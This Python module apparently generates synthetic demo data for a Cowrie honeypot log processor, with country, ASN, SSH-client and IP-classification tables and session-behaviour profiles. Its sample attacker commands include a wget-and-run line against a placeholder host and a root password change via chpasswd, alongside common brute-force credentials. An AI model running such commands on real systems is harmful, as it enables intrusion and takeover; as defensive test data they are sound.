"""The world the demo data describes: countries, networks (ASNs), what attackers do
(session behaviours, clients, commands) and how the enrichment sources classify an IP.

Plain tables and the small functions that draw from them; nothing here touches the
database.
"""

from __future__ import annotations

import dataclasses
import functools
import itertools
import random
from collections.abc import Callable
from dataclasses import dataclass

from cowrieprocessor.demo.rows import JSON, Format

# fmt: off
# code, name, capital, weight (share of attack sources), registry, latitude, longitude
COUNTRIES: tuple[tuple[str, str, str, float, str, float, float], ...] = (
    ("CN", "China", "Beijing", 18.0, "APNIC", 35.0, 105.0),
    ("US", "United States", "Ashburn", 16.0, "ARIN", 39.8, -98.6),
    ("RU", "Russia", "Moscow", 7.0, "RIPE", 61.5, 105.3),
    ("BR", "Brazil", "Sao Paulo", 6.0, "LACNIC", -14.2, -51.9),
    ("IN", "India", "Mumbai", 6.0, "APNIC", 20.6, 79.0),
    ("DE", "Germany", "Frankfurt am Main", 4.0, "RIPE", 51.2, 10.5),
    ("KR", "South Korea", "Seoul", 4.0, "APNIC", 35.9, 127.8),
    ("VN", "Vietnam", "Hanoi", 4.0, "APNIC", 14.1, 108.3),
    ("NL", "Netherlands", "Amsterdam", 3.0, "RIPE", 52.1, 5.3),
    ("SG", "Singapore", "Singapore", 3.0, "APNIC", 1.35, 103.8),
    ("FR", "France", "Paris", 3.0, "RIPE", 46.2, 2.2),
    ("GB", "United Kingdom", "London", 2.5, "RIPE", 55.4, -3.4),
    ("ID", "Indonesia", "Jakarta", 2.5, "APNIC", -0.8, 113.9),
    ("TW", "Taiwan", "Taipei", 2.0, "APNIC", 23.7, 121.0),
    ("HK", "Hong Kong", "Hong Kong", 2.0, "APNIC", 22.3, 114.2),
    ("JP", "Japan", "Tokyo", 2.0, "APNIC", 36.2, 138.3),
    ("IR", "Iran", "Tehran", 1.5, "RIPE", 32.4, 53.7),
    ("UA", "Ukraine", "Kyiv", 1.5, "RIPE", 48.4, 31.2),
    ("TR", "Turkey", "Istanbul", 1.5, "RIPE", 39.0, 35.2),
    ("CA", "Canada", "Toronto", 1.5, "ARIN", 56.1, -106.3),
    ("AR", "Argentina", "Buenos Aires", 1.0, "LACNIC", -38.4, -63.6),
    ("MX", "Mexico", "Mexico City", 1.0, "LACNIC", 23.6, -102.6),
    ("TH", "Thailand", "Bangkok", 1.0, "APNIC", 15.9, 100.9),
    ("PK", "Pakistan", "Karachi", 1.0, "APNIC", 30.4, 69.3),
    ("BD", "Bangladesh", "Dhaka", 1.0, "APNIC", 23.7, 90.4),
    ("IT", "Italy", "Milan", 1.0, "RIPE", 41.9, 12.6),
    ("ES", "Spain", "Madrid", 1.0, "RIPE", 40.5, -3.7),
    ("PL", "Poland", "Warsaw", 1.0, "RIPE", 51.9, 19.1),
    ("RO", "Romania", "Bucharest", 1.0, "RIPE", 45.9, 25.0),
    ("EG", "Egypt", "Cairo", 1.0, "AFRINIC", 26.8, 30.8),
    ("ZA", "South Africa", "Johannesburg", 1.0, "AFRINIC", -30.6, 22.9),
    ("CO", "Colombia", "Bogota", 0.7, "LACNIC", 4.6, -74.3),
    ("CL", "Chile", "Santiago", 0.5, "LACNIC", -35.7, -71.5),
    ("NG", "Nigeria", "Lagos", 0.5, "AFRINIC", 9.1, 8.7),
    ("KE", "Kenya", "Nairobi", 0.5, "AFRINIC", -0.02, 37.9),
    ("SC", "Seychelles", "Victoria", 0.3, "AFRINIC", -4.7, 55.5),
)

# number, organization, country, kind, weight (relative share of the inventory's IPs)
KNOWN_ASNS: tuple[tuple[int, str, str, str, float], ...] = (
    (4134, "CHINANET-BACKBONE No.31,Jin-rong Street", "CN", "isp", 40.0),
    (14061, "DIGITALOCEAN-ASN", "US", "hosting", 14.0),
    (4837, "CHINA169-BACKBONE CHINA UNICOM China169 Backbone", "CN", "isp", 12.0),
    (16509, "AMAZON-02", "US", "hosting", 9.0),
    (45090, "TENCENT-NET-AP Shenzhen Tencent Computer Systems Company Limited", "CN", "hosting",
     7.0),
    (37963, "ALIBABA-CN-NET Hangzhou Alibaba Advertising Co.,Ltd.", "CN", "hosting", 7.0),
    (9808, "CHINAMOBILE-CN China Mobile Communications Group Co., Ltd.", "CN", "mobile", 6.0),
    (396982, "GOOGLE-CLOUD-PLATFORM", "US", "hosting", 6.0),
    (12389, "ROSTELECOM-AS PJSC Rostelecom", "RU", "isp", 5.0),
    (8075, "MICROSOFT-CORP-MSN-AS-BLOCK", "US", "hosting", 5.0),
    (132203, "TENCENT-NET-AP-CN Tencent Building, Kejizhongyi Avenue", "CN", "hosting", 4.0),
    (63949, "AKAMAI-LINODE-AP Akamai Connected Cloud", "US", "hosting", 4.0),
    (20473, "AS-VULTR", "US", "hosting", 4.0),
    (16276, "OVH", "FR", "hosting", 4.0),
    (24940, "HETZNER-AS", "DE", "hosting", 4.0),
    (4766, "KIXS-AS-KR Korea Telecom", "KR", "isp", 4.0),
    (4812, "CHINANET-SH-AP China Telecom (Group)", "CN", "isp", 3.0),
    (28573, "Claro NXT Telecomunicacoes Ltda", "BR", "isp", 3.0),
    (18881, "TELEFONICA BRASIL S.A", "BR", "isp", 3.0),
    (9829, "BSNL-NIB National Internet Backbone", "IN", "isp", 3.0),
    (24560, "AIRTELBROADBAND-AS-AP Bharti Airtel Ltd., Telemedia Services", "IN", "isp", 3.0),
    (55836, "RELIANCEJIO-IN Reliance Jio Infocomm Limited", "IN", "mobile", 3.0),
    (7552, "VIETEL-AS-AP Viettel Group", "VN", "isp", 3.0),
    (45899, "VNPT-AS-VN VNPT Corp", "VN", "isp", 3.0),
    (49505, "SELECTEL", "RU", "hosting", 3.0),
    (51167, "CONTABO", "DE", "hosting", 3.0),
    (14618, "AMAZON-AES", "US", "hosting", 3.0),
    (8359, "MTS PJSC MTS", "RU", "mobile", 2.0),
    (9318, "SKB-AS SK Broadband Co Ltd", "KR", "isp", 2.0),
    (9009, "M247", "GB", "hosting", 2.0),
    (202425, "INT-NETWORK", "SC", "hosting", 2.0),
    (17974, "TELKOMNET-AS2-AP PT Telekomunikasi Indonesia", "ID", "isp", 2.0),
    (3462, "HINET Data Communication Business Group", "TW", "isp", 2.0),
    (36352, "AS-COLOCROSSING", "US", "hosting", 2.0),
    (135377, "UCLOUD-HK-AS-AP UCLOUD INFORMATION TECHNOLOGY HK LIMITED", "HK", "hosting", 2.0),
    (7922, "COMCAST-7922", "US", "isp", 1.5),
    (4713, "OCN NTT Communications Corporation", "JP", "isp", 1.0),
    (4760, "HKTIMS-AP HKT Limited", "HK", "isp", 1.0),
    (58224, "TCI", "IR", "isp", 1.0),
    (9121, "TTNET", "TR", "isp", 1.0),
    (3320, "DTAG Internet service provider operations", "DE", "isp", 1.0),
)

_NAME_HEADS = ("Nord", "Blue", "Star", "Pacific", "Atlas", "Delta", "Sky", "Iron", "Silver",
               "Green", "Terra", "Nova", "Metro", "Prime", "Rapid", "Orion", "Aurora", "Vertex",
               "Quantum", "Coral", "Summit", "Falcon", "Harbor", "Zenith")
_NAME_TAILS = ("net", "link", "line", "wave", "com", "host", "cloud", "tel", "fiber", "data",
               "web", "core")
_KIND_WORDS = {
    "hosting": ("Hosting", "Cloud", "Datacenter", "Servers"),
    "isp": ("Telecom", "Broadband", "Internet", "Communications"),
    "mobile": ("Mobile", "Wireless", "Cellular"),
    "business": ("Networks", "Solutions", "Systems"),
    "education": ("University", "Research Network", "Academic Network"),
}
_SUFFIXES = ("Ltd", "LLC", "Inc.", "GmbH", "S.A.", "Co., Ltd.", "B.V.", "JSC", "")
_KINDS = ("hosting", "isp", "business", "mobile", "education")
_KIND_CUM = tuple(itertools.accumulate((45.0, 38.0, 10.0, 5.0, 2.0)))

# the first 16 bits of IPv6 prefixes handed out by each registry
V6_PREFIX16 = {
    "APNIC": (0x2400, 0x2401, 0x2402, 0x2403, 0x2404, 0x2405, 0x2406, 0x2407, 0x240E),
    "ARIN": (0x2600, 0x2602, 0x2603, 0x2604, 0x2605, 0x2606, 0x2607, 0x2620),
    "RIPE": (0x2A00, 0x2A01, 0x2A02, 0x2A03, 0x2A05, 0x2A06, 0x2A0E, 0x2001),
    "LACNIC": (0x2800, 0x2801, 0x2803, 0x2804),
    "AFRINIC": (0x2C0F, 0x2C0E, 0x2001),
}

_IP_TYPE_ORDER = ("VPN", "TOR", "PROXY", "DATACENTER", "RESIDENTIAL", "MOBILE")
_VPN_OPERATORS = ("NordVPN", "Mullvad", "ExpressVPN", "PROTON_VPN", "SURFSHARK_VPN")
_SENSORS = ("honeypot-sg-01", "honeypot-fra-01", "honeypot-nyc-02", "honeypot-syd-01",
            "honeypot-gru-01", "honeypot-blr-01", "honeypot-ams-03", "honeypot-tyo-01")
_SSH_CLIENTS = ("SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-libssh2_1.10.0",
                "SSH-2.0-OpenSSH_8.9p1", "SSH-2.0-PuTTY_Release_0.78", "SSH-2.0-paramiko_3.4.0",
                "SSH-2.0-ZGrab ZGrab SSH Survey", "SSH-2.0-OpenSSH_7.4")
USERNAMES = ("root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "pi", "git")
PASSWORDS = ("123456", "admin", "password", "root", "1234", "12345678", "qwerty", "raspberry")
COMMANDS = ("uname -a", "cat /proc/cpuinfo | grep name | wc -l", "whoami", "ls -la /tmp",
             "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh", "free -m", "nproc",
             'echo "root:Xk2p9q" | chpasswd', "crontab -l", "cat /etc/issue")
MIDDLE_EVENTS = ("cowrie.client.version", "cowrie.client.kex", "cowrie.login.failed",
                  "cowrie.login.success", "cowrie.command.input")
DSHIELD_ERRORS = ('"dshield":{"error":"timeout"}', '"dshield":{"error":"rate limited"}',
                   '"dshield":{"error":"HTTP 502"}')
URLHAUS = (',"urlhaus":"malware_download"', ',"urlhaus":""')
LOG_DIR = "/var/log/cowrie/cowrie.json."
# fmt: on

_COUNTRY_INDEX = {c[0]: i for i, c in enumerate(COUNTRIES)}
COUNTRY_CUM = tuple(itertools.accumulate(c[3] for c in COUNTRIES))
COUNTRY_RANGE = range(len(COUNTRIES))

# --- ASNs ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Asn:
    number: int
    name: str
    country: int  # index into COUNTRIES (where the ASN is registered)
    kind: str
    weight: float

    @functools.cached_property
    def name_json(self) -> str:
        return JSON.encode(self.name)


_KNOWN_SHARE = 0.25


def build_asns(rng: random.Random, count: int) -> list[Asn]:
    asns = [
        Asn(number, name, _COUNTRY_INDEX[cc], kind, weight)
        for number, name, cc, kind, weight in KNOWN_ASNS[:count]
    ]
    used = {a.number for a in asns}
    while len(asns) < count:
        number = rng.randrange(1_000, 400_000)
        if number in used or number == 23_456 or 64_496 <= number <= 131_071:
            continue  # AS_TRANS and the reserved, documentation and private ranges
        used.add(number)
        country = rng.choices(COUNTRY_RANGE, cum_weights=COUNTRY_CUM)[0]
        kind = rng.choices(_KINDS, cum_weights=_KIND_CUM)[0]
        name = (
            f"{rng.choice(_NAME_HEADS)}{rng.choice(_NAME_TAILS)} "
            f"{rng.choice(_KIND_WORDS[kind])} {rng.choice(_SUFFIXES)}"
        ).strip()
        weight = min(rng.paretovariate(1.6), 20.0)  # countries are skewed by their count
        asns.append(Asn(number, name, country, kind, weight))
    known = min(count, len(KNOWN_ASNS))
    synthetic = sum(a.weight for a in asns[known:])
    if synthetic:  # the well-known networks keep _KNOWN_SHARE of the IPs, whatever the count
        scale = _KNOWN_SHARE / (1 - _KNOWN_SHARE) * synthetic / sum(a.weight for a in asns[:known])
        asns[:known] = [dataclasses.replace(a, weight=a.weight * scale) for a in asns[:known]]
    return asns


# --- what a session does, and how an IP is classified --------------------------------------

Profile = tuple[int, int, int, int, int, int, object, int | None]


def behaviours(rng: random.Random, fmt: Format) -> list[Profile]:
    """A table of session behaviours to draw from (one lookup instead of ~10 draws).

    Each: event_count, command_count, file_downloads, login_attempts,
    ssh_key_injections, unique_ssh_keys, vt_flagged (spelled for the dialect), risk_score.
    """
    r = rng.random
    table: list[Profile] = []
    for _ in range(4096):
        kind = r()
        commands = downloads = keys = 0
        if kind < 0.42:  # scanner: connects, maybe tries one login, leaves
            logins = 0 if r() < 0.6 else 1
        elif kind < 0.80:  # password brute force
            logins = 1 + int(rng.expovariate(0.25))
        elif kind < 0.985:  # bot that gets a shell
            logins = 1 + int(rng.expovariate(0.7))
            commands = 1 + int(rng.expovariate(0.1))
            downloads = 1 + int(r() * 3) if r() < 0.3 else 0
            keys = 1 if r() < 0.12 else 0
        else:  # long interactive session
            logins = 1 + int(r() * 5)
            commands = 20 + int(r() * 281)
            downloads = int(r() * 9)
            keys = 1 if r() < 0.3 else 0
        events = 3 + logins + commands + 2 * downloads + keys + (r() < 0.5)
        vt = downloads > 0 and r() < 0.25
        risk = min(100, 5 + 2 * logins + 3 * commands + 15 * downloads + 20 * keys + 25 * vt)
        injections = keys * (1 + (r() < 0.3))
        table.append(
            (events, commands, downloads, logins, injections, keys, fmt.flag(vt),
             None if r() < 0.02 else risk)
        )  # fmt: skip
    return table


def metadata(rng: random.Random) -> list[tuple[str, str, str | None, str]]:
    """(protocol, sensor, client, session_metadata fields without source_ip) to draw from."""
    table: list[tuple[str, str, str | None, str]] = []
    for _ in range(256):
        sensor = rng.choice(_SENSORS)
        if rng.random() < 0.15:
            protocol, client, version = "telnet", None, ""
        else:
            protocol, client = "ssh", rng.choice(_SSH_CLIENTS)
            version = f',"client_version":"{client}"'
        fields = f'"sensor":"{sensor}","protocol":"{protocol}"{version}'
        table.append((protocol, sensor, client, fields))
    return table


def ip_types(r: Callable[[], float], kind: str) -> list[str]:
    """IP classifications, highest priority first; about a quarter of the IPs have none."""
    if r() < 0.1:
        return []
    found: set[str] = set()
    if kind == "hosting":
        if r() < 0.9:
            found.add("DATACENTER")
        if r() < 0.12:
            found.add("VPN")
        if r() < 0.06:
            found.add("PROXY")
        if r() < 0.02:
            found.add("TOR")
    elif kind == "isp":
        if r() < 0.85:
            found.add("RESIDENTIAL")
        if r() < 0.05:
            found.add("PROXY")
    elif kind == "mobile":
        if r() < 0.9:
            found.add("MOBILE")
        if r() < 0.03:
            found.add("PROXY")
    elif r() < 0.6:
        found.add("DATACENTER" if r() < 0.5 else "RESIDENTIAL")
    return [t for t in _IP_TYPE_ORDER if t in found]


def spur(r: Callable[[], float], asn: Asn, types: list[str]) -> str:
    infrastructure = next((t for t in types if t in ("DATACENTER", "RESIDENTIAL", "MOBILE")), None)
    tunnels = []
    for t in types:
        if t in ("VPN", "TOR", "PROXY"):
            operator = (
                f'"{_VPN_OPERATORS[int(r() * len(_VPN_OPERATORS))]}"' if t == "VPN" else "null"
            )
            tunnels.append(f'{{"type":"{t}","operator":{operator},"anonymous":true}}')
    risks = '"CALLBACK_PROXY"' if "PROXY" in types else ""
    return (
        f'"spur":{{"as":{{"number":{asn.number},"organization":{asn.name_json}}},'
        f'"infrastructure":{JSON.encode(infrastructure)},'
        f'"tunnels":[{",".join(tunnels)}],'
        f'"risks":[{risks}]}}'
    )
